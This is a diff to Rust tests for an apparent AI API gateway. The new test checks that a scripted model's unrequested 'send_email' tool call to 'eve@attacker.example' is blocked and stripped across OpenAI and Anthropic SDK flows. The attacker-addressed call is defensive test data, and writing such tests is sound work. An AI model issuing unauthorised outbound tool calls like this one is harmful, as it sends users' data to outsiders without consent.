@@ -159,6 +159,36 @@ fn tool_calls_arrive_whole_and_checked() {
 }
 
 #[test]
+fn both_sdks_go_on_after_a_call_that_was_stopped() {
+    let Some(sdk) = Sdk::find() else { return };
+    // No request offers this tool.
+    let call = json!({"name": "send_email", "arguments": {"to": "eve@attacker.example", "body": "Hello"}});
+    let upstream = sdk.scripted(&json!([{"chunks": ["One moment."], "tool": call, "write": 9}]));
+    let stopped = |step: &serde_json::Value| {
+        let text = step["text"].as_str().unwrap_or_default();
+        assert!(text.contains("not carried out"), "{step}");
+        assert_eq!(step["tool_calls"], json!([]), "{step}");
+        assert!(!step.to_string().contains("attacker"), "{step}");
+    };
+    let gateway = Gateway::start(&upstream.v1(), "");
+    let scenarios = ["tools-stream", "tools", "responses-tools-stream", "responses-tools"];
+    let [stream, whole, responses, whole_response] = sdk.openai(&gateway.v1(), scenarios, &[]);
+    for said in [&stream, &whole] {
+        stopped(said.step("call"));
+        assert_eq!(said.step("call")["finish"], "stop", "{said:?}");
+    }
+    stopped(responses.step("reply"));
+    assert_eq!(responses.step("reply")["last_event"], "response.completed", "{responses:?}");
+    stopped(whole_response.step("call"));
+    let gateway = Gateway::start(&upstream.origin, "");
+    let [stream, whole] = sdk.anthropic(&gateway.origin, ["tools-stream", "tools"], &[]);
+    for said in [&stream, &whole] {
+        stopped(said.step("call"));
+        assert_eq!(said.step("call")["finish"], "end_turn", "{said:?}");
+    }
+}
+
+#[test]
 fn responses_work_through_the_gateway() {
     let Some(sdk) = Sdk::find() else { return };
     let card = "4111 1111 1111 1111";
@@ -174,7 +204,8 @@ fn responses_work_through_the_gateway() {
     ]);
     let upstream = sdk.scripted(&script);
     let gateway = Gateway::start(&upstream.v1(), "");
-    let scenarios = ["responses", "responses-stream", "responses-tools", "responses-stream", "responses", "responses"];
+    let streamed = "responses-tools-stream";
+    let scenarios = ["responses", "responses-stream", "responses-tools", streamed, "responses", "responses"];
     let [plain, streamed, tools, called, whole, blocked] =
         sdk.openai(&gateway.v1(), scenarios, &["--system", "You are polite."]);
     assert_eq!(plain.step("reply")["text"], "Paris is the capital.", "{plain:?}");
